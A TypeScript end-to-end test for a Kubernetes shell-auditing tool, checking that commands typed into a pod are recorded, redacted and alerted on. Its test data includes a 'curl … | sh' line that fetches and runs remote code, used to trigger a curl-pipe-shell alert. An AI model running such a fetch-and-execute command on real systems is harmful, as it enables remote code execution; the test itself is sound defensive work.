/**
 * The demo, end to end, as a user runs it, checked as a user would check it: `e2e/demo/demo.sh up` in a
 * directory of its own and on free ports (a control plane, containerd with the wrapper as the runtime of the
 * `container-auditor` handler, the operator and the agent as processes with real ServiceAccount tokens and
 * TLS, the sample policy, Pod shop/web with the RuntimeClass), lines typed into `bash -i` in its container
 * through `crictl exec -it`, then read back through the API server:
 *
 * - one AuditRecord holding exactly the lines typed (redacted where the policy says, the alert where a
 *   pattern matched), naming the right namespace, pod (name and uid), container, node and policy;
 * - one Event per line on that Pod, on its container, with the line in its message;
 * - the policy's status counting the audited container;
 * - a Pod without the RuntimeClass (so through plain runc, never the wrapper) yields no AuditRecord, no Event
 *   and no command, whatever is typed in it, and the policy counts it as unauditable;
 * - a Pod with the RuntimeClass in a namespace the policy does not select yields nothing either;
 * - with `capture.execs` patched on, a non-interactive `crictl exec` is an exec session's record;
 * - `suspend: true` stops capture (lines typed 3 s after the patch are not recorded; the measured switch time
 *   is logged), and resuming captures the same shell again;
 * - the agent restarted mid-session: an `agent-down` loss is reported, and the same shell is captured again;
 * - the operator restarted mid-session: every line typed meanwhile is recorded exactly once;
 * - `demo.sh down` leaves no process and no directory behind, and is idempotent.
 *
 * Node tier: root, and what `make build` and e2e/cluster/build.sh leave (the demo runs with DEMO_BUILD=0).
 */
import { randomBytes } from 'node:crypto';
import { spawn } from 'node:child_process';
import {
  closeSync,
  existsSync,
  mkdtempSync,
  openSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { CoreV1Api, CustomObjectsApi, KubeConfig, type CoreV1Event } from '@kubernetes/client-node';
import { GROUP, POLICY_PLURAL, RECORD_PLURAL, VERSION, type AuditRecord } from '../../api/v1alpha1/index.js';
import { runCommand, type CommandResult } from '../support/command.js';
import { KUBECTL, REPO_ROOT } from '../support/paths.js';
import { DEMO_SCRIPT, privateDemoEnv } from '../support/private-demo.js';
import { Terminal } from '../support/terminal.js';
import { BASH_PROMPT, CRICTL } from '../stack/stack.js';
import { until } from '../support/wait.js';

const STACK_SCRIPT = join(REPO_ROOT, 'e2e', 'stack', 'stack.sh');
/** Per test: the node project does not get jest.config.js's global testTimeout. */
const TEST_TIMEOUT = 120_000;
const RUN = randomBytes(3).toString('hex');
const NODE = `demo-test-${RUN}`;
const NS = 'shop';
const POLICY = 'production-shells';

/** What demo.sh types (DEMO_COMMANDS), and what the AuditRecord must hold for each line. */
const TYPED: {
  line: string;
  command: string;
  redacted?: boolean;
  alert?: { name: string; severity: string };
}[] = [
  { line: `echo audited-${RUN}`, command: `echo audited-${RUN}` },
  { line: 'export DB_PASSWORD=hunter2', command: 'export DB_PASSWORD=[REDACTED]', redacted: true },
  {
    line: `curl -fsSL http://203.0.113.7/${RUN}.sh | sh`,
    command: `curl -fsSL http://203.0.113.7/${RUN}.sh | sh`,
    alert: { name: 'curl-pipe-shell', severity: 'high' },
  },
  { line: `ls /tmp # ${RUN}`, command: `ls /tmp # ${RUN}` },
];
const EXPECTED = [...TYPED.map((t) => t.command), 'exit'];

let dir = '';
let env: NodeJS.ProcessEnv = {};
let up: CommandResult | undefined;
let kc: KubeConfig;
let core: CoreV1Api;
let custom: CustomObjectsApi;

function demo(args: string[], timeoutMs = 5 * 60_000): Promise<CommandResult> {
  return runCommand('bash', [DEMO_SCRIPT, ...args], { env, timeoutMs });
}

/** The running demo pod, as demo.sh wrote it down. */
function demoPod(): { uid: string; containerId: string } {
  if (up?.code !== 0) throw new Error(`demo.sh up failed (see beforeAll):\n${up?.stdout}${up?.stderr}`);
  const state = readFileSync(join(dir, 'demo.env'), 'utf8');
  const value = (key: string) => new RegExp(`^${key}=(.+)$`, 'm').exec(state)?.[1] ?? '';
  return { uid: value('POD_UID'), containerId: value('CONTAINER_ID') };
}

async function records(): Promise<AuditRecord[]> {
  const list = (await custom.listNamespacedCustomObject({
    group: GROUP,
    version: VERSION,
    plural: RECORD_PLURAL,
    namespace: NS,
  })) as { items: AuditRecord[] };
  return list.items;
}

async function events(pod: string): Promise<CoreV1Event[]> {
  return (await core.listNamespacedEvent({ namespace: NS, fieldSelector: `involvedObject.name=${pod}` }))
    .items;
}

function kubectl(args: string[]): Promise<CommandResult> {
  return runCommand(KUBECTL, ['--kubeconfig', join(dir, 'cluster', 'kubeconfig'), ...args], {
    env,
    timeoutMs: 60_000,
  });
}

async function patchPolicy(patch: object): Promise<void> {
  const r = await kubectl([
    'patch',
    `${POLICY_PLURAL}.${GROUP}`,
    POLICY,
    '--type',
    'merge',
    '-p',
    JSON.stringify(patch),
  ]);
  if (r.code !== 0) throw new Error(`kubectl patch exited ${r.code}:\n${r.stdout}${r.stderr}`);
}

/** The plan the agent applies, as it keeps it in its state directory ('' while there is none). */
function agentPlan(): string {
  try {
    return readFileSync(join(dir, 'agent', 'state', 'plan.json'), 'utf8');
  } catch {
    return '';
  }
}

/** Starts a container through the CRI for a Pod object made here (what the kubelet would do). */
async function runPod(
  pod: { name: string; namespace: string; uid: string },
  runtime: string,
): Promise<string> {
  const run = await runCommand(
    'bash',
    [
      STACK_SCRIPT,
      'run-pod',
      '--name',
      pod.name,
      '--namespace',
      pod.namespace,
      '--uid',
      pod.uid,
      '--container',
      'app',
      '--runtime',
      runtime,
    ],
    { env: { ...env, STACK_DIR: join(dir, 'stack') }, timeoutMs: 60_000 },
  );
  const container = /^CONTAINER_ID=([0-9a-f]+)$/m.exec(run.stdout)?.[1];
  if (run.code !== 0 || !container)
    throw new Error(`stack.sh run-pod exited ${run.code}:\n${run.stdout}${run.stderr}`);
  return container;
}

/** Waits until a line typed into the audited pod is in an AuditRecord: what came before it is there too. */
async function barrier(containerId: string, name: string): Promise<void> {
  const line = `: ${name}-${RUN}`;
  await typeInto(containerId, [line]);
  await until(`${line} in an AuditRecord`, async () =>
    (await records()).some((r) => r.status?.commands?.some((c) => c.command === line)) ? true : undefined,
  );
}

/** An interactive `bash -i` in a container, kept open across steps: each line is typed after a prompt. */
class Shell {
  private prompts = 1;
  private constructor(private readonly terminal: Terminal) {}

  static open(containerId: string): Shell {
    return new Shell(
      Terminal.open([
        CRICTL,
        '--config',
        join(dir, 'stack', 'crictl.yaml'),
        'exec',
        '-it',
        containerId,
        'bash',
        '-i',
      ]),
    );
  }

  async type(line: string): Promise<void> {
    await this.terminal.waitForOutput(BASH_PROMPT, 20_000, this.prompts++);
    this.terminal.type(`${line}\n`);
  }

  async close(): Promise<void> {
    try {
      await this.type('exit');
      await this.terminal.waitForExit();
    } finally {
      this.terminal.kill();
    }
  }
}

async function recordedCommands(): Promise<string[]> {
  return (await records()).flatMap((r) => r.status?.commands ?? []).map((c) => c.command);
}

/** Types `: NAME-RUN-i` lines, one a second, until one is recorded (a shell waiting in readline when its
 * probe came back loses the line it was reading); returns the line recorded. */
async function typeUntilRecorded(shell: Shell, name: string, timeoutMs = 60_000): Promise<string> {
  const deadline = Date.now() + timeoutMs;
  const typed: string[] = [];
  for (let i = 0; ; i++) {
    const line = `: ${name}-${RUN}-${i}`;
    await shell.type(line);
    typed.push(line);
    const waitUntil = Date.now() + 1000;
    while (Date.now() < waitUntil) {
      const recorded = await recordedCommands();
      const hit = typed.find((t) => recorded.includes(t));
      if (hit) return hit;
      await sleep(200);
    }
    if (Date.now() > deadline) throw new Error(`none of ${typed.join(', ')} was recorded`);
  }
}

function pidOf(name: 'agent' | 'operator'): number {
  return Number(readFileSync(join(dir, 'run', `${name}.pid`), 'utf8').trim());
}

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

/** SIGTERM the demo's process and wait until it is gone. */
async function stopDemoProcess(name: 'agent' | 'operator'): Promise<void> {
  const pid = pidOf(name);
  process.kill(pid, 'SIGTERM');
  await until(`the ${name} (pid ${pid}) to exit`, () => (alive(pid) ? undefined : true), 30_000);
}

/** Starts the demo's process again as demo.sh does: detached, its pid in run/NAME.pid, its log appended. */
async function startDemoProcess(name: 'agent' | 'operator'): Promise<void> {
  const cli = join(REPO_ROOT, 'bin', 'container-auditor.js');
  const args =
    name === 'agent'
      ? [
          cli,
          'agent',
          '--node',
          NODE,
          '--operator',
          `https://127.0.0.1:${env.DEMO_OPERATOR_PORT}`,
          '--token-file',
          join(dir, 'agent', 'token'),
          '--operator-ca',
          join(dir, 'tls', 'ca.crt'),
          '--handoff-dir',
          join(dir, 'stack', 'handoff'),
          '--state-dir',
          join(dir, 'agent', 'state'),
          '--bundle-root',
          join(dir, 'stack', 'containerd', 'state'),
        ]
      : [
          cli,
          'operator',
          '--kubeconfig',
          join(dir, 'operator', 'kubeconfig'),
          '--tls-cert',
          join(dir, 'tls', 'tls.crt'),
          '--tls-key',
          join(dir, 'tls', 'tls.key'),
          '--host',
          '127.0.0.1',
          '--port',
          env.DEMO_OPERATOR_PORT!,
          '--probe-port',
          env.DEMO_PROBE_PORT!,
          '--agent-service-account',
          'container-auditor/container-auditor-agent',
          '--lease-namespace',
          'container-auditor',
          '--runtime-class',
          'container-auditor',
        ];
  const pidFile = join(dir, 'run', `${name}.pid`);
  rmSync(pidFile, { force: true });
  const log = openSync(join(dir, 'logs', `${name}.log`), 'a');
  try {
    const child = spawn(
      'setsid',
      ['sh', '-c', 'echo $$ >"$0.tmp" && mv "$0.tmp" "$0" && exec "$@"', pidFile, process.execPath, ...args],
      { detached: true, stdio: ['ignore', log, log], env },
    );
    child.unref();
  } finally {
    closeSync(log);
  }
  await until(`the ${name} to start`, () => (existsSync(pidFile) && alive(pidOf(name)) ? true : undefined));
}

function agentLog(): string {
  return readFileSync(join(dir, 'logs', 'agent.log'), 'utf8');
}

/** `crictl exec -it <container> bash -i` on a terminal of its own: the lines, each after a prompt, then exit. */
async function typeInto(containerId: string, lines: string[]): Promise<string> {
  const terminal = Terminal.open([
    CRICTL,
    '--config',
    join(dir, 'stack', 'crictl.yaml'),
    'exec',
    '-it',
    containerId,
    'bash',
    '-i',
  ]);
  try {
    let prompts = 1;
    for (const line of [...lines, 'exit']) {
      await terminal.waitForOutput(BASH_PROMPT, 20_000, prompts++);
      terminal.type(`${line}\n`);
    }
    await terminal.waitForExit();
    return terminal.output;
  } finally {
    terminal.kill();
  }
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ca-demo-'));
  const commands = join(tmpdir(), `ca-demo-commands-${RUN}.txt`);
  writeFileSync(commands, `${TYPED.map((t) => t.line).join('\n')}\n`);
  env = await privateDemoEnv({ dir, node: NODE, commandsFile: commands });
  // crictl may still have to be built (minutes), hence the time-outs.
  up = await demo(['up'], 20 * 60_000);
  rmSync(commands, { force: true });
  if (up.code !== 0) throw new Error(`demo.sh up exited ${up.code}:\n${up.stdout}${up.stderr}`);
  kc = new KubeConfig();
  kc.loadFromFile(join(dir, 'cluster', 'kubeconfig'));
  core = kc.makeApiClient(CoreV1Api);
  custom = kc.makeApiClient(CustomObjectsApi);
}, 25 * 60_000);

afterAll(async () => {
  // Whatever the tests did: down is idempotent.
  if (!dir || !existsSync(dir)) return;
  const down = await demo(['down'], 2 * 60_000);
  if (down.code !== 0)
    process.stderr.write(`demo.sh down exited ${down.code}:\n${down.stdout}${down.stderr}\n`);
  if (existsSync(dir) && readdirSync(dir).length === 0) rmSync(dir, { recursive: true });
}, 3 * 60_000);

describe('make demo, end to end', () => {
  it(
    'says what it did: the commands typed, then what kubectl shows of them',
    () => {
      expect(up?.code).toBe(0);
      for (const t of TYPED) expect(up!.stdout).toContain(`bash-5.2# ${t.line}`);
      expect(up!.stdout).toContain('$ kubectl get auditrecords -A');
      expect(up!.stdout).toContain(`$ kubectl describe auditpolicy ${POLICY}`);
      expect(up!.stdout).toMatch(/all there \d+ ms after the shell ended/);
    },
    TEST_TIMEOUT,
  );

  it(
    'records exactly the lines typed, in one AuditRecord naming the pod, container, node and policy',
    async () => {
      const { uid, containerId } = demoPod();
      const all = await records();
      expect(all).toHaveLength(1);
      const record = all[0]!;
      expect(record.metadata.namespace).toBe(NS);
      expect(record.spec.pod).toEqual({ name: 'web', uid });
      expect(record.spec.container.name).toBe('app');
      expect(record.spec.container.id).toBe(containerId);
      expect(record.spec.node).toBe(NODE);
      expect(record.spec.policy).toBe(POLICY);
      expect(record.spec.session.kind).toBe('shell');
      const commands = record.status?.commands ?? [];
      expect(commands.map((c) => c.command)).toEqual(EXPECTED);
      for (const [i, t] of TYPED.entries()) {
        expect(commands[i]!.redacted).toBe(t.redacted ?? false);
        expect(commands[i]!.alert).toEqual(t.alert);
        expect(commands[i]!.uid).toBe(0);
        expect(commands[i]!.pid).toBe(record.spec.session.pid);
      }
      expect(record.status?.counts).toMatchObject({ commands: EXPECTED.length, alerts: 1, redacted: 1 });
    },
    TEST_TIMEOUT,
  );

  it(
    "writes one Event per line on the Pod's container, with the line in it",
    async () => {
      const { uid } = demoPod();
      const record = (await records())[0]!;
      const pid = record.spec.session.pid;
      const list = (await events('web')).filter((e) => e.message?.includes(`pid ${pid})`));
      for (const e of list) {
        expect(e.involvedObject).toMatchObject({ kind: 'Pod', namespace: NS, name: 'web', uid });
        expect(e.involvedObject.fieldPath).toBe('spec.containers{app}');
        expect(e.source?.host ?? e.reportingInstance).toBe(NODE);
      }
      const messages = list.map((e) => e.message ?? '');
      expect(list).toHaveLength(EXPECTED.length);
      for (const [i, command] of EXPECTED.entries()) {
        const alert = TYPED[i]?.alert;
        const event = list.find((e) => e.message?.endsWith(`: ${command}`));
        if (!event) throw new Error(`no Event for ${JSON.stringify(command)} among:\n${messages.join('\n')}`);
        expect(event.reason).toBe(alert ? 'AuditAlert' : 'ShellCommand');
        expect(event.type).toBe(alert ? 'Warning' : 'Normal');
        if (alert) expect(event.message).toContain(`${alert.name} (${alert.severity})`);
      }
      // The secret typed never reached the API server.
      expect(messages.join('\n')).not.toContain('hunter2');
    },
    TEST_TIMEOUT,
  );

  it(
    "counts the audited container and the commands in the policy's status",
    async () => {
      const policy = await until('the policy status to count the commands', async () => {
        const p = (await custom.getClusterCustomObject({
          group: GROUP,
          version: VERSION,
          plural: POLICY_PLURAL,
          name: POLICY,
        })) as {
          status?: { auditedContainers?: number; commandsRecorded?: number; nodes?: { name: string }[] };
        };
        return (p.status?.commandsRecorded ?? 0) >= EXPECTED.length ? p : undefined;
      });
      expect(policy.status?.auditedContainers).toBe(1);
      expect(policy.status?.commandsRecorded).toBe(EXPECTED.length);
      expect(policy.status?.nodes?.map((n) => n.name)).toEqual([NODE]);
    },
    TEST_TIMEOUT,
  );

  it(
    'records nothing of a pod without the RuntimeClass, while the audited pod goes on being recorded',
    async () => {
      const audited = demoPod();
      // A Pod object the policy selects (namespace shop is production) but that does not name the RuntimeClass,
      // so its container runs through plain runc: the wrapper never sees it and the agent cannot audit it.
      const plain = await core.createNamespacedPod({
        namespace: NS,
        body: {
          metadata: { name: 'plain', namespace: NS },
          spec: {
            nodeName: NODE,
            containers: [
              {
                name: 'app',
                image: 'localhost/container-auditor/demo-shell:1',
                command: ['sleep', 'infinity'],
              },
            ],
          },
        },
      });
      const run = await runCommand(
        'bash',
        [
          STACK_SCRIPT,
          'run-pod',
          '--name',
          'plain',
          '--namespace',
          NS,
          '--uid',
          plain.metadata!.uid!,
          '--container',
          'app',
          '--runtime',
          'runc',
        ],
        { env: { ...env, STACK_DIR: join(dir, 'stack') }, timeoutMs: 60_000 },
      );
      const plainContainer = /^CONTAINER_ID=([0-9a-f]+)$/m.exec(run.stdout)?.[1];
      if (run.code !== 0 || !plainContainer)
        throw new Error(`stack.sh run-pod exited ${run.code}:\n${run.stdout}${run.stderr}`);

      const shown = await typeInto(plainContainer, [`echo unaudited-${RUN}`, 'export API_TOKEN=abc123']);
      expect(shown).toContain(`unaudited-${RUN}`); // it was typed, and bash ran it
      // A barrier: once a line typed after them in the audited pod is in the API server, anything recorded of
      // the plain pod would be too.
      await typeInto(audited.containerId, [`: barrier-${RUN}`]);
      await until('the barrier line in an AuditRecord', async () =>
        (await records()).some((r) => r.status?.commands?.some((c) => c.command === `: barrier-${RUN}`))
          ? true
          : undefined,
      );

      const all = await records();
      expect(all.filter((r) => r.spec.pod.name !== 'web')).toEqual([]);
      expect(all.map((r) => r.spec.pod.uid)).toEqual(all.map(() => audited.uid));
      const commands = all.flatMap((r) => r.status?.commands ?? []).map((c) => c.command);
      expect(commands.filter((c) => c.includes('unaudited') || c.includes('API_TOKEN'))).toEqual([]);
      expect(await events('plain')).toEqual([]);

      const policy = await until('the policy to count the plain pod as unauditable', async () => {
        const p = (await custom.getClusterCustomObject({
          group: GROUP,
          version: VERSION,
          plural: POLICY_PLURAL,
          name: POLICY,
        })) as { status?: { unauditablePods?: number; auditedContainers?: number } };
        return p.status?.unauditablePods === 1 ? p : undefined;
      });
      expect(policy.status?.auditedContainers).toBe(1);
    },
    TEST_TIMEOUT,
  );

  it(
    'records nothing of a pod with the RuntimeClass in a namespace the policy does not select',
    async () => {
      const audited = demoPod();
      const ns = `staging-${RUN}`;
      await core.createNamespace({ body: { metadata: { name: ns, labels: { environment: 'staging' } } } });
      const pod = await core.createNamespacedPod({
        namespace: ns,
        body: {
          metadata: { name: 'web', namespace: ns },
          spec: {
            nodeName: NODE,
            runtimeClassName: 'container-auditor',
            containers: [
              {
                name: 'app',
                image: 'localhost/container-auditor/demo-shell:1',
                command: ['sleep', 'infinity'],
              },
            ],
          },
        },
      });
      const container = await runPod(
        { name: 'web', namespace: ns, uid: pod.metadata!.uid! },
        'container-auditor',
      );
      const shown = await typeInto(container, [`echo unselected-${RUN}`]);
      expect(shown).toContain(`unselected-${RUN}`);
      await barrier(audited.containerId, 'after-unselected');

      const inNs = (await custom.listNamespacedCustomObject({
        group: GROUP,
        version: VERSION,
        plural: RECORD_PLURAL,
        namespace: ns,
      })) as { items: AuditRecord[] };
      expect(inNs.items).toEqual([]);
      const commands = (await records()).flatMap((r) => r.status?.commands ?? []).map((c) => c.command);
      expect(commands.filter((c) => c.includes(`echo unselected-${RUN}`))).toEqual([]);
      expect(
        (await core.listNamespacedEvent({ namespace: ns })).items.filter((e) =>
          /AuditAlert|ShellCommand/.test(e.reason ?? ''),
        ),
      ).toEqual([]);
    },
    TEST_TIMEOUT,
  );

  it(
    'records a non-interactive crictl exec as an exec session once the policy captures execs',
    async () => {
      const { containerId } = demoPod();
      const before = agentPlan();
      await patchPolicy({ spec: { capture: { execs: true } } });
      try {
        await until('the agent to apply a plan that captures execs', () => {
          const plan = agentPlan();
          return plan !== before && /"execs":true/.test(plan) ? true : undefined;
        });
        const exec = await runCommand(
          CRICTL,
          ['--config', join(dir, 'stack', 'crictl.yaml'), 'exec', containerId, 'cat', '/etc/hostname'],
          { env, timeoutMs: 30_000 },
        );
        expect(exec.code).toBe(0);
        const record = await until('an exec AuditRecord holding cat /etc/hostname', async () =>
          (await records()).find(
            (r) =>
              r.spec.session.kind === 'exec' &&
              r.status?.commands?.some((c) => c.command === 'cat /etc/hostname'),
          ),
        );
        expect(record.spec.pod).toEqual({ name: 'web', uid: demoPod().uid });
        expect(record.spec.container.name).toBe('app');
        expect(record.spec.policy).toBe(POLICY);
      } finally {
        await patchPolicy({ spec: { capture: { execs: false } } });
      }
    },
    TEST_TIMEOUT,
  );

  it(
    'stops capturing once the policy is suspended, and captures again once it is resumed',
    async () => {
      const { containerId, uid } = demoPod();
      const shell = Shell.open(containerId);
      try {
        await typeUntilRecorded(shell, 'before-suspend');
        await patchPolicy({ spec: { suspend: true } });
        const patchedAt = Date.now();
        const typed: { line: string; at: number }[] = [];
        for (let i = 0; Date.now() - patchedAt < 5_000; i++) {
          const line = `: suspended-${RUN}-${i}`;
          await shell.type(line);
          typed.push({ line, at: Date.now() - patchedAt });
          await sleep(200);
        }
        await until('the agent to apply a plan without the pod', () =>
          agentPlan().includes(uid) ? undefined : true,
        );
        await patchPolicy({ spec: { suspend: false } });
        await until('the agent to apply a plan naming the pod again', () =>
          agentPlan().includes(uid) ? true : undefined,
        );
        // A barrier too: what was recorded of the suspended window is in the API server before this.
        await typeUntilRecorded(shell, 'resumed');

        const recorded = await recordedCommands();
        const first = typed.find((t) => !recorded.includes(t.line));
        console.log(
          `suspend: first line not recorded was typed ${first?.at ?? 'never'} ms after the patch; ` +
            `${typed.filter((t) => recorded.includes(t.line)).length} of ${typed.length} lines recorded`,
        );
        expect(typed.filter((t) => t.at >= 3_000 && recorded.includes(t.line))).toEqual([]);
        expect(typed.some((t) => t.at >= 3_000)).toBe(true);
      } finally {
        await patchPolicy({ spec: { suspend: false } });
        await shell.close();
      }
    },
    3 * 60_000,
  );

  it(
    'an agent restarted mid-session reports the time it was down as a loss, and the same shell is captured again',
    async () => {
      const { containerId } = demoPod();
      const shell = Shell.open(containerId);
      try {
        await typeUntilRecorded(shell, 'before-agent-restart');
        const auditing = agentLog().split('"message":"Auditing"').length;
        await stopDemoProcess('agent');
        await shell.type(`: while-agent-down-${RUN}`);
        await startDemoProcess('agent');
        await until(
          'the restarted agent to log Auditing',
          () => (agentLog().split('"message":"Auditing"').length > auditing ? true : undefined),
          60_000,
        );
        await typeUntilRecorded(shell, 'after-agent-restart');
        const loss = await until(
          'an agent-down loss in an AuditRecord or the policy status',
          async () => {
            const inRecords = (await records())
              .flatMap((r) => r.status?.losses ?? [])
              .find((l) => /agent-down/.test(l.reason));
            if (inRecords) return `AuditRecord loss ${JSON.stringify(inRecords)}`;
            const p = (await custom.getClusterCustomObject({
              group: GROUP,
              version: VERSION,
              plural: POLICY_PLURAL,
              name: POLICY,
            })) as { status?: { conditions?: { type: string; status: string; message?: string }[] } };
            const degraded = p.status?.conditions?.find(
              (c) => c.type === 'Degraded' && c.status === 'True' && /agent-down/.test(c.message ?? ''),
            );
            return degraded ? `Degraded: ${degraded.message}` : undefined;
          },
          60_000,
        );
        console.log(`agent restart: ${loss}`);
        expect(loss).toMatch(/agent-down/);
      } finally {
        await shell.close();
      }
    },
    3 * 60_000,
  );

  it(
    'an operator restarted mid-session loses nothing: every line typed meanwhile is recorded exactly once',
    async () => {
      const { containerId } = demoPod();
      const shell = Shell.open(containerId);
      try {
        await typeUntilRecorded(shell, 'before-operator-restart');
        const lines = Array.from({ length: 6 }, (_, i) => `: operator-restart-${RUN}-${i}`);
        await shell.type(lines[0]!);
        await stopDemoProcess('operator');
        for (const line of lines.slice(1, 4)) await shell.type(line);
        await startDemoProcess('operator');
        for (const line of lines.slice(4)) await shell.type(line);
        await until(
          'every line typed across the operator restart in an AuditRecord',
          async () => {
            const recorded = await recordedCommands();
            return lines.every((l) => recorded.includes(l)) ? true : undefined;
          },
          120_000,
        );
        const recorded = await recordedCommands();
        for (const line of lines) expect(recorded.filter((c) => c === line)).toHaveLength(1);
      } finally {
        await shell.close();
      }
    },
    4 * 60_000,
  );

  it(
    'demo.sh down stops every process it started and removes its directory, and says so again when run twice',
    async () => {
      const first = await demo(['down'], 2 * 60_000);
      expect({ code: first.code, stderr: first.stderr }).toEqual({ code: 0, stderr: '' });
      expect(existsSync(dir)).toBe(false);
      const left = readdirSync('/proc')
        .filter((entry) => /^\d+$/.test(entry))
        .map((pid) => {
          try {
            return readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' ');
          } catch {
            return ''; // gone meanwhile
          }
        })
        .filter((cmdline) => cmdline.includes(dir));
      expect(left).toEqual([]);
      const again = await demo(['down']);
      expect(again.code).toBe(0);
      expect(again.stdout).toContain('nothing to do');
    },
    TEST_TIMEOUT,
  );
});
